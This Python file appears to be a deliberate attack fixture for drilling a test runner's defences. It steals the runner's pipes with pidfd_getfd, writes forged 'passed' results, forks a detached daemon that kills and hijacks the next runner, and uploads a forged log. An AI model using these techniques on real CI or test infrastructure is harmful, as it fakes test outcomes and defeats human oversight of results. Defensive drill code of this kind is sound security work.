# ruff: noqa: S310, S606, SIM105, SIM115 - hostile scenario code, written as an attacker would
"""Attacks on the runner that runs this phase (tests/drills/test_runner_attacks.py says which).

`forge <runner pid>`: copy the runner's answer pipe with pidfd_getfd and write a `passed 999/999`
answer into it (with the digest of the bundle, from the runner's cache), then exit 1.

`takeover <runner pid> <token>`: leave a daemon (double fork, setsid, an empty environment) and kill
the runner. The daemon waits for the next runner of the same function to be idle in read(0), stops
it, copies its invocation and answer pipes, reads the next invocation, uploads a forged log and
answers `passed 777/777`. Its name (/proc/<pid>/comm) says how far it got: `attached`, `refused`.
"""

import ctypes
import json
import os
import signal
import sys
import time
import urllib.request

SYS_PIDFD_GETFD = 438  # the same number on x86_64 and arm64
libc = ctypes.CDLL(None, use_errno=True)


def name_self(name: str) -> None:
    libc.prctl(15, name.encode(), 0, 0, 0)  # PR_SET_NAME


def getfd(pid: int, fd: int) -> int:
    pidfd = os.pidfd_open(pid)
    try:
        got = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
        if got < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return got
    finally:
        os.close(pidfd)


def answer_pipes(pid: int) -> list[int]:
    """The runner's write-only pipes but its stderr: the answer pipe (and the log pipe, if any)."""
    stderr = os.readlink(f"/proc/{pid}/fd/2")
    found = []
    for name in sorted(os.listdir(f"/proc/{pid}/fd"), key=int):
        fd = int(name)
        if fd < 3:
            continue
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
            flags = open(f"/proc/{pid}/fdinfo/{fd}").read().split("flags:")[1].split()[0]
        except OSError:
            continue
        if link.startswith("pipe:") and link != stderr and int(flags, 8) & 3 == 1:
            found.append(fd)
    return found


def frame(body: dict) -> bytes:
    data = json.dumps(body).encode()
    return f"OK {len(data)}\n".encode() + data


def forged(execution_id: str, phase: str, count: int, digest: str | None) -> dict:
    return {
        "protocol": 1,
        "executionId": execution_id,
        "phase": phase,
        "result": {
            "name": phase,
            "status": "passed",
            "tests": {"total": count, "passed": count, "failed": 0, "errored": 0, "skipped": 0},
        },
        "logStored": True,
        "tests": [],
        "bundleSha256": digest,
    }


def bundle_digest() -> str | None:
    """The digest of this run's bundle: the name of the runner's cached copy, wherever it is."""
    here = os.getcwd().split("/")
    places = ["/".join(here[:i]) + "/cache" for i in range(2, len(here))]
    for place in [*places, "/tmp/.bundles", "/tmp/testgenie/bundles"]:
        try:
            names = [n for n in os.listdir(place) if n.endswith(".tar.gz")]
        except OSError:
            continue
        if names:
            return names[0].split(".")[0]
    return None


def forge(runner: int) -> int:
    body = forged(os.environ["TESTGENIE_EXECUTION_ID"], "lint", 999, bundle_digest())
    try:
        fds = [getfd(runner, fd) for fd in answer_pipes(runner)]
    except OSError as exc:
        print(f"forge refused: {exc}")
        return 1
    for fd in fds:
        os.write(fd, frame(body))
    print(f"forged an answer into {len(fds)} pipe(s)")
    return 1


def takeover(runner: int, token: str) -> int:
    bootstrap = open(f"/proc/{runner}/cmdline", "rb").read().split(b"\0")[2]
    source = open(__file__).read()  # the workspace goes with the run: the daemon keeps its code
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            argv = [sys.executable, "-c", source, "daemon", str(runner), bootstrap.decode(), token]
            os.execve(sys.executable, argv, {})
        os._exit(0)
    os.wait()
    os.kill(runner, signal.SIGKILL)
    return 1


def idle_runner(dead: int, bootstrap: bytes) -> int | None:
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (dead, os.getpid()):
            continue
        try:
            cmdline = open(f"/proc/{name}/cmdline", "rb").read().split(b"\0")
            wchan = open(f"/proc/{name}/wchan").read()
            state = open(f"/proc/{name}/stat").read().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        # A non-dumpable process hides its wchan ("0"): then any sleeping one is worth a try.
        idle = wchan in {"pipe_read", "anon_pipe_read"} or (wchan == "0" and state == "S")
        if len(cmdline) > 2 and cmdline[2] == bootstrap and idle:
            return int(name)
    return None


def read_frame(fd: int) -> dict:
    data = b""
    while b"\n" not in data:
        data += os.read(fd, 1)
    _, size, _ = data.split()
    payload = b""
    while len(payload) < int(size):
        payload += os.read(fd, int(size) - len(payload))
    return json.loads(payload)


def daemon(dead: int, bootstrap: str, token: str) -> int:
    name_self("waiting")
    target = None
    for _ in range(600):  # 50 ms apart: at most about 30 s
        target = idle_runner(dead, bootstrap.encode())
        if target is not None:
            break
        time.sleep(0.05)
    if target is None:
        return 0
    try:
        invocations = getfd(target, 0)
        answers = [getfd(target, fd) for fd in answer_pipes(target)]
    except OSError:
        name_self("refused")
        time.sleep(30)
        return 0
    os.kill(target, signal.SIGSTOP)  # it must not read the next invocation: this daemon does
    name_self("attached")
    event = read_frame(invocations)
    upload = event["logUpload"]
    forged_log = f"forged log of {event['scenarioName']}/{event['phase']}\n".encode()
    request = urllib.request.Request(
        upload["url"], data=forged_log, method="PUT", headers=upload.get("headers") or {}
    )
    try:
        urllib.request.urlopen(request, timeout=10).read()
    except OSError:
        pass
    body = forged(event["executionId"], event["phase"], 777, event["bundle"]["sha256"])
    for fd in answers:
        os.write(fd, frame(body))
    name_self("forged")
    time.sleep(30)
    return 0


if __name__ == "__main__":
    mode = sys.argv[1]
    if mode == "forge":
        sys.exit(forge(int(sys.argv[2])))
    if mode == "takeover":
        sys.exit(takeover(int(sys.argv[2]), sys.argv[3]))
    sys.exit(daemon(int(sys.argv[2]), sys.argv[3], sys.argv[4]))
